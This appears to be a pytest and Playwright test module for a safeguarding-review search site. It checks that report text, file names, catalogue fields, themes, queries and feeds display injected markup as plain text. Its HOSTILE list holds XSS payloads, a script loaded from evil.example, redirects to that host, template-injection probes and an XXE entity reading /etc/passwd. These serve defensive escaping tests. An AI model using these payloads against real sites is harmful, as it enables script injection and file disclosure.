"""Text made to attack the reader, in PDFs, titles, file names, the catalogue, themes and queries, is shown as text."""

import csv
import io
import os
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from markupsafe import escape
from playwright.sync_api import Browser
from reportlab.pdfgen.canvas import Canvas

from reviews.web.app import create_app
from tests.reviews.web.browser import Visitor, served
from tests.reviews.web.conftest import build

_EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter", "onbegin")
_TAGS = ("img src=x", "svg", "body", "iframe", "video", "details open", "input autofocus", "marquee", "object", "math")
_CODE = "alert(1)"

HOSTILE = [
    *(f"<{tag} {event}={_CODE}>" for tag in _TAGS for event in _EVENTS),
    f"<script>{_CODE}</script>",
    f"<SCRIPT>{_CODE}</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    f"</script><script>{_CODE}</script>",
    f"</mark><script>{_CODE}</script><mark>",
    f"</title><script>{_CODE}</script>",
    f"</textarea><script>{_CODE}</script>",
    f"</style><script>{_CODE}</script>",
    f"</blockquote></li></ol><script>{_CODE}</script>",
    f'"><script>{_CODE}</script>',
    f"'><script>{_CODE}</script>",
    f'" autofocus onfocus="{_CODE}',
    f"' autofocus onfocus='{_CODE}",
    f'" onmouseover="{_CODE}" x="',
    f"javascript:{_CODE}",
    f"data:text/html,<script>{_CODE}</script>",
    f'<a href="javascript:{_CODE}">x</a>',
    '<form action="https://evil.example"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<img src="https://evil.example/x.png">',
    '<style>@import url("https://evil.example/x.css")</style>',
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0;background:red">x</div>',
    "{{ 7*7 }}",
    "{% raw %}{{ config }}{% endraw %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<?xml version='1.0'?>",
    f"<noscript><p title='</noscript><img src=x onerror={_CODE}>'>",
]  # fmt: skip


def pdf(strings: list[str]) -> bytes:
    """Return a report with each string in a separate paragraph, and as its title."""
    out = io.BytesIO()
    canvas = Canvas(out)
    canvas.setTitle(HOSTILE[-2])
    for start in range(0, len(strings), 20):
        for n, string in enumerate(strings[start : start + 20]):
            canvas.setFont("Helvetica", 9)
            canvas.drawString(40, 800 - 36 * n, f"{start + n + 1}. Wren neglect {string} wren.")
        canvas.showPage()
    canvas.save()
    return out.getvalue()


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a library with malicious text wherever text is possible."""
    home = tmp_path_factory.mktemp("hostile")
    reports = home / "reports"
    reports.mkdir()
    name = "<img src=x onerror=alert(1)>&'.pdf" if os.name == "posix" else "odd & name.pdf"
    (reports / name).write_bytes(pdf(HOSTILE))
    (reports / "b<script>alert(1)<.pdf" if os.name == "posix" else reports / "b.pdf").write_bytes(
        b"<script>alert(1)</script>"
    )
    rows = [["file", "title", "board", "child", "kind", "type", "year", "case", "author"]]
    rows.append([name, *(HOSTILE[n] for n in (0, 81, 90, 92, 93)), "2020", HOSTILE[91], HOSTILE[99]])
    for n, string in enumerate(HOSTILE[:40]):
        part = home / f"part{n}.pdf"
        part.write_bytes(pdf([string]))
        part.rename(reports / part.name)
        rows.append([part.name, string, HOSTILE[-n - 1], "", HOSTILE[n + 40], "", "2021", "", ""])
    table = io.StringIO()
    csv.writer(table).writerows(rows)
    build(home / "library", reports, table.getvalue().encode())
    themes = [
        f"[[theme]]\nname = '''{string} theme'''\nqueries = '''\nneglect\n{string}\n'''\nnote = '''{string}'''\n"
        for string in HOSTILE
        if "'''" not in string and not string.endswith("'")
    ]
    (home / "library" / "themes.toml").write_text("\n".join(themes), encoding="utf-8")
    return home / "library"


@pytest.fixture(scope="module")
def visitor(browser: Browser, library: Path) -> Iterator[Visitor]:
    app = create_app(library)
    with served(app) as address:
        found = Visitor(browser, address)
        yield found
        found.close()
    app.extensions["pool"].close()


def test_there_are_enough_of_them() -> None:
    assert len(set(HOSTILE)) >= 120


def plain(text: str) -> str:
    return "".join(text.split())


def test_in_the_text_of_a_report_on_every_page_that_shows_it(visitor: Visitor) -> None:
    page = visitor.go("/?q=neglect&limit=100")
    found = visitor.page.request.get(visitor.address + "/search.json?q=neglect&limit=100").json()
    big = max(found["hits"], key=lambda hit: int(hit["report"]["pages"]))["report"]
    for n in range(1, big["pages"] + 1):
        page = visitor.go(f"/reports/{big['id']}/pages/{n}?q=neglect")
        page.wait_for_selector("#viewer[data-shown=pdf]")
        shown = plain(page.locator(".r-text").inner_text())
        for string in HOSTILE[20 * (n - 1) : 20 * n]:
            assert plain(string) in shown
        assert page.locator("mark").count() >= 20
    for path in (f"/reports/{big['id']}?q=neglect", f"/reports/{big['id']}?q=neglect&page=2", f"/reports/{big['id']}"):
        visitor.go(path)
    assert visitor.trouble == []


def test_in_titles_boards_kinds_and_file_names(visitor: Visitor) -> None:
    page = visitor.go("/?q=neglect&limit=100")
    shown = plain(page.locator("main").inner_text())
    for string in HOSTILE[:40]:
        assert plain(string) in shown
    shown = ""
    for n in (1, 2):
        page = visitor.go(f"/coverage?page={n}")
        page.evaluate("for (const each of document.querySelectorAll('details')) each.open = true")
        shown += plain(page.locator("main").inner_text())
    for string in HOSTILE[:40]:
        assert plain(string) in shown
    assert "b<script>alert(1)<.pdf" in shown or os.name != "posix"
    assert visitor.trouble == []


def test_in_themes(visitor: Visitor) -> None:
    page = visitor.go("/themes")
    page.evaluate("for (const each of document.querySelectorAll('details')) each.open = true")
    shown = plain(page.locator("main").inner_text())
    assert sum(plain(string) in shown for string in HOSTILE) >= 100
    page = visitor.go("/")
    assert plain(f"{HOSTILE[0]} theme") in plain(page.locator("main").inner_text())
    assert visitor.trouble == []


def test_in_queries_and_filters(visitor: Visitor) -> None:
    """Of the tags with each event, the browser is asked for ten, which have every tag and every event. The others are
    filters beside them, and the words of pages that are only read.
    """
    tags = len(_TAGS) * len(_EVENTS)
    asked = [*HOSTILE[:tags:9], HOSTILE[tags - 2 * len(_EVENTS)], *HOSTILE[tags:]]
    assert all(any(part in string for string in asked[:10]) for part in (*_TAGS, *_EVENTS))
    others = [string for string in HOSTILE if string not in asked]
    for number, string in enumerate(asked):
        boards = (string, *others[number :: len(asked)])
        filters = "".join(f"&board={quote(board)}" for board in boards)
        page = visitor.go(f"/?q={quote(string)}{filters}&theme={quote(HOSTILE[0])}+theme")
        assert page.get_by_label("Words to look for").input_value() == string
        assert page.title().endswith("Safeguarding reviews")
        shown = plain(page.locator("main").inner_text())
        assert all(plain(board) in shown for board in boards)
    for string in others:
        read = visitor.page.request.get(f"{visitor.address}/?q={quote(string)}").text()
        assert f'value="{escape(string)}"' in read
        assert string not in read
    assert visitor.trouble == []


def test_on_the_pages_for_analysts(visitor: Visitor) -> None:
    shown = plain(visitor.go("/concordance?q=wren").locator("main").inner_text())
    assert sum(plain(string) in shown for string in HOSTILE) >= 40
    visitor.go("/terms?q=neglect&unit=report")
    for string in HOSTILE[::30]:
        page = visitor.go(f"/compare?q={quote(string)}&q=neglect&board={quote(string)}")
        assert page.locator("#q1").input_value() == string.strip()
    assert visitor.trouble == []


def test_in_feeds_and_records(visitor: Visitor) -> None:
    from xml.etree import ElementTree

    for string in HOSTILE[::5]:
        for address in (f"/search.atom?q=neglect+OR+{quote(string)}", "/opensearch.xml"):
            answer = visitor.page.request.get(visitor.address + address)
            if answer.status == 200:
                ElementTree.fromstring(answer.text())
            else:
                assert answer.status == 400
    assert visitor.trouble == []
